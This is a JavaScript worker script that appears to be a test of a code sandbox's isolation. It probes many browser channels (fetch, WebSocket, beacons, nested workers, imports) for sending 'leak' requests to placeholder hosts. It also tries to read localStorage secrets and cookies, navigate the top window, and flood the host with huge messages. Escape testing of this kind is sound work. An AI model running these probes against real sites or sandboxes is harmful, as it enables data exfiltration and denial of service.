const out = [];
const OURS = "%OURS%", THEIRS = "%THEIRS%";
const say = (text) => postMessage("tried " + text);
const attempt = async (name, work) => {
  try {
    const found = await Promise.race([work(), new Promise((r) => setTimeout(r, 1500))]);
    if (found) out.push(name + " " + found);
  } catch {}
};
const heard = (thing, event) => new Promise((resolve) => { thing[event] = () => resolve("open"); });
(async () => {
  // All at once: a browser that is busy lets a worker's clock stand for seconds.
  const attempts = [];
  const tried = (name, work) => attempts.push(attempt(name, work));
  for (const at of [OURS, THEIRS]) {
    for (const path of ["/leak", "/runtime/x?leak=1", "/assets/x.mjs?leak=1", "/?leak"]) {
      const url = at + path;
      tried("fetch", () => fetch(url));
      tried("no-cors", () => fetch(url, { mode: "no-cors", keepalive: true }));
      tried("post", () => fetch(url, { method: "POST", body: "leak", mode: "no-cors" }));
      tried("import", () => import(url));
      tried("importScripts", () => importScripts(url) ?? "done");
      tried("xhr", () => {
        const request = new XMLHttpRequest();
        request.open("GET", url, false);
        request.send();
        return "sent";
      });
      tried("events", () => heard(new EventSource(url), "onopen"));
      tried("socket", () => heard(new WebSocket(url.replace("http", "ws")), "onopen"));
      tried("transport", () => new WebTransport(url.replace("http:", "https:")).ready);
      tried("font", () => new FontFace("f", `url(${url})`).load());
      tried("worker", () => heard(new Worker(url), "onmessage"));
      tried("module", () => heard(new Worker(url, { type: "module" }), "onmessage"));
      tried("beacon", () => navigator.sendBeacon(url));
      tried("wasm", () => WebAssembly.compileStreaming(fetch(url)));
    }
  }
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const inner = `fetch("${THEIRS}/leak"); import("${OURS}/leak.mjs"); importScripts("${OURS}/leak");`;
  tried("eval", () => eval("1"));
  tried("Function", () => new Function("return 1")());
  tried("import of text", () => import(blob("export default 1")));
  tried("import of data", () => import("data:text/javascript,export default 1"));
  tried("importScripts of text", () => importScripts(blob(inner)) ?? "done");
  tried("a worker within", async () => { new Worker(blob(inner)); await new Promise((r) => setTimeout(r, 1000)); });
  tried("files", async () => {
    await (await navigator.storage.getDirectory()).getFileHandle("leak", { create: true });
    return "written";
  });
  tried("database", () => new Promise((resolve) => {
    indexedDB.open("leak").onsuccess = () => resolve("open");
  }));
  tried("cache", async () => (await caches.open("leak"), "open"));
  tried("channel", () => { new BroadcastChannel("leak").postMessage("leak"); });
  tried("storage", () => localStorage.secret);
  tried("cookies", async () => (await cookieStore.getAll()).length);
  tried("locks", () => navigator.locks.request("leak", () => "held"));
  tried("top", () => (top.location = THEIRS + "/leak"));
  tried("open", () => open(THEIRS + "/leak"));
  tried("where", () => (self.origin === "null" ? "" : self.origin));
  await Promise.all(attempts);
  say(JSON.stringify(out));
  setTimeout(() => {
    const much = "x".repeat(30_000_000);
    for (let n = 0; n < 40; n += 1) postMessage(n % 2 ? "asked 1" : "asked " + n);
    postMessage(much);
    for (let n = 0; n < 20_000; n += 1) postMessage("after");
  }, 200);
})();
